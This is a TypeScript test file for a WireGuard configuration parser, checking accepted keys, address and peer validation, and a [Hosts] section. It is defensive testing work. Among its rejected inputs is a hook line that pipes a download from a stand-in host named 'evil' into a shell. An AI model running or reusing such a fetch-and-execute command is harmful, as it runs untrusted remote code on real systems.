import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { WgConfigError, parseWgConfig } from '../../src/enclave/net/wg-config.ts';
import { encodeKey, generatePrivateKey, publicKey } from '../../src/enclave/net/wireguard/crypto.ts';
import { formatIPv4 } from '../../src/enclave/net/ipv4.ts';

const priv = encodeKey(generatePrivateKey());
const peerPub = encodeKey(publicKey(generatePrivateKey()));
const psk = encodeKey(generatePrivateKey());

const good = `# the enclave's side
[Interface]
PrivateKey = ${priv}
Address = 10.213.5.1/24
ListenPort = 51820
MTU = 1380

[Peer]   # the client
PublicKey = ${peerPub}
PresharedKey = ${psk}
Endpoint = 192.0.2.7:51820
AllowedIPs = 10.213.5.2/32, 10.213.6.9/24
AllowedIPs = 10.213.7.0/24
PersistentKeepalive = 25
`;

function fails(text: string, line: number, message: RegExp): void {
  assert.throws(
    () => parseWgConfig(text),
    (e: unknown) => e instanceof WgConfigError && e.line === line && message.test(e.message),
    `expected line ${line} ${message}`,
  );
}

describe('wg-quick configuration', () => {
  it('parses every supported key', () => {
    const c = parseWgConfig(good);
    assert.equal(encodeKey(c.interface.privateKey as Uint8Array), priv);
    assert.deepEqual(c.interface.addresses, [{ address: 0x0ad50501, prefix: 24 }]);
    assert.equal(c.interface.listenPort, 51820);
    assert.equal(c.interface.mtu, 1380);
    assert.equal(c.peers.length, 1);
    const p = c.peers[0]!;
    assert.equal(encodeKey(p.publicKey), peerPub);
    assert.equal(encodeKey(p.presharedKey!), psk);
    assert.deepEqual(p.endpoint, { address: '192.0.2.7', port: 51820 });
    assert.deepEqual(
      p.allowedIPs.map((a) => `${formatIPv4(a.address)}/${a.prefix}`),
      ['10.213.5.2/32', '10.213.6.0/24', '10.213.7.0/24'],
      'lists add up; host bits are masked as wg does',
    );
    assert.equal(p.persistentKeepalive, 25);
  });

  it('takes "generate", the default MTU, CRLF line ends, any key case and no peers', () => {
    const c = parseWgConfig('[interface]\r\nprivatekey = generate\r\naddress=10.0.0.1\r\n');
    assert.equal(c.interface.privateKey, 'generate');
    assert.equal(c.interface.mtu, 1420);
    assert.equal(c.interface.listenPort, undefined);
    assert.deepEqual(c.interface.addresses, [{ address: 0x0a000001, prefix: 32 }]);
    assert.deepEqual(c.peers, []);
  });

  it('refuses hostile and broken configurations, naming the line', () => {
    const iface = `[Interface]\nPrivateKey = ${priv}\nAddress = 10.0.0.1/24\n`;
    fails('', 0, /no \[Interface\]/);
    fails('PrivateKey = x\n', 1, /outside any section/);
    fails(`${iface}PostUp = curl evil | sh\n`, 4, /PostUp is not supported/);
    fails(`${iface}DNS = 1.1.1.1\n`, 4, /DNS is not supported/);
    fails(`${iface}Colour = blue\n`, 4, /unknown key Colour/);
    fails(`${iface}[Tunnel]\n`, 4, /unknown section/);
    fails(`${iface}[Interface]\n`, 4, /second \[Interface\]/);
    fails(`${iface}MTU = 1420\nMTU = 1280\n`, 5, /given twice.*line 4/);
    fails(`${iface}MTU = 100\n`, 4, /MTU must be a whole number from 576/);
    fails(`${iface}MTU = -1\n`, 4, /MTU/);
    fails(`${iface}ListenPort = 65536\n`, 4, /ListenPort/);
    fails(`${iface}ListenPort = 0x10\n`, 4, /ListenPort/);
    fails(
      `[Interface]\nPrivateKey = ${priv.slice(0, 40)}\nAddress = 10.0.0.1\n`,
      2,
      /PrivateKey is not a WireGuard key/,
    );
    fails(`[Interface]\nPrivateKey = ${priv}x\nAddress = 10.0.0.1\n`, 2, /PrivateKey/);
    fails(`[Interface]\nAddress = 10.0.0.1\n`, 1, /no PrivateKey/);
    fails(`[Interface]\nPrivateKey = ${priv}\n`, 1, /no Address/);
    fails(`[Interface]\nPrivateKey = ${priv}\nAddress = 10.0.0.256/24\n`, 3, /not an IPv4 address/);
    fails(`[Interface]\nPrivateKey = ${priv}\nAddress = 10.0.0.1/33\n`, 3, /not an IPv4 address/);
    fails(`[Interface]\nPrivateKey = ${priv}\nAddress = fd00::1/64\n`, 3, /IPv6/);
    fails(`${iface}Address =\n`, 4, /no value/);
    fails(`${iface}garbage\n`, 4, /expected "Key = Value"/);
    fails(`${iface}PrivateKey = ${priv}\u0000\n`, 4, /control characters/);
    fails(`${iface}# ${'x'.repeat(5000)}\n`, 4, /longer than/);
    fails(`${iface}[Peer]\nAllowedIPs = 10.0.0.2/32\n`, 4, /\[Peer\] has no PublicKey/);
    fails(
      `${iface}[Peer]\nPublicKey = ${peerPub}\nEndpoint = example.com:51820\n`,
      6,
      /host names are not resolved/,
    );
    fails(`${iface}[Peer]\nPublicKey = ${peerPub}\nEndpoint = 192.0.2.1:0\n`, 6, /Endpoint port/);
    fails(`${iface}[Peer]\nPublicKey = ${peerPub}\nEndpoint = 192.0.2.1\n`, 6, /Endpoint must be/);
    fails(
      `${iface}[Peer]\nPublicKey = ${peerPub}\nPersistentKeepalive = forever\n`,
      6,
      /PersistentKeepalive/,
    );
    fails(`${iface}[Peer]\nPublicKey = ${peerPub}\n[Peer]\nPublicKey = ${peerPub}\n`, 7, /earlier \[Peer\]/);
    fails(`${iface}[Peer]\nPublicKey = ${encodeKey(publicKey(Buffer.from(priv, 'base64')))}\n`, 5, /own/);
    fails(
      `${iface}[Peer]\nPublicKey = ${peerPub}\nListenPort = 1\n`,
      6,
      /unknown key ListenPort in \[Peer\]/,
    );
    assert.throws(() => parseWgConfig(`${iface}#${'x'.repeat(300_000)}`), /larger than/);
  });

  it('PersistentKeepalive = off or 0 means none', () => {
    const base = `[Interface]\nPrivateKey = ${priv}\nAddress = 10.0.0.1/24\n[Peer]\nPublicKey = ${peerPub}\n`;
    assert.equal(
      parseWgConfig(`${base}PersistentKeepalive = off\n`).peers[0]!.persistentKeepalive,
      undefined,
    );
    assert.equal(parseWgConfig(`${base}PersistentKeepalive = 0\n`).peers[0]!.persistentKeepalive, undefined);
  });

  it('[Hosts]: names the enclave resolves itself, each checked', () => {
    const c = parseWgConfig(
      `${good}\n[Hosts]\nDB.Internal = 10.213.5.2\napi-1.example = 10.213.6.1 # a comment\n`,
    );
    assert.deepEqual(c.hosts, [
      { name: 'db.internal', address: '10.213.5.2' },
      { name: 'api-1.example', address: '10.213.6.1' },
    ]);
    assert.deepEqual(parseWgConfig(good).hosts, [], 'no section, no names');
    const at = good.split('\n').length + 2; // the line after "[Hosts]"
    const bad = (line: string, message: RegExp): void => fails(`${good}\n[Hosts]\n${line}\n`, at, message);
    bad('db_internal = 10.0.0.1', /not a host name/);
    bad('-db = 10.0.0.1', /not a host name/);
    bad('db- = 10.0.0.1', /not a host name/);
    bad('a..b = 10.0.0.1', /not a host name/);
    bad('db. = 10.0.0.1', /not a host name/);
    bad(`${'a'.repeat(64)}.example = 10.0.0.1`, /not a host name/);
    bad(`${'abcdefgh.'.repeat(28)}example = 10.0.0.1`, /not a host name/);
    bad('10.0.0.300 = 10.0.0.1', /not a host name/);
    bad('host name = 10.0.0.1', /not a host name/);
    bad('exämple = 10.0.0.1', /not a host name/);
    bad('LocalHost = 10.0.0.1', /localhost is always 127\.0\.0\.1/);
    bad('db = 10.0.0', /not an IPv4 address/);
    bad('db = 0.0.0.0', /not an IPv4 address/);
    bad('db = fd00::1', /not an IPv4 address/);
    bad('db = db.internal', /not an IPv4 address/);
    bad('db =', /not an IPv4 address/);
    fails(
      `${good}\n[Hosts]\ndb = 10.0.0.1\nDB = 10.0.0.2\n`,
      at + 1,
      /DB is given twice \(first on line \d+\)/,
    );
    fails(`${good}\n[Hosts]\n[Hosts]\n`, at, /a second \[Hosts\] section/);
    const many = Array.from({ length: 1025 }, (_, i) => `h${i}.example = 10.0.${i >> 8}.${i & 255 || 1}`);
    fails(`${good}\n[Hosts]\n${many.join('\n')}\n`, at + 1024, /more than 1024 names/);
  });
});
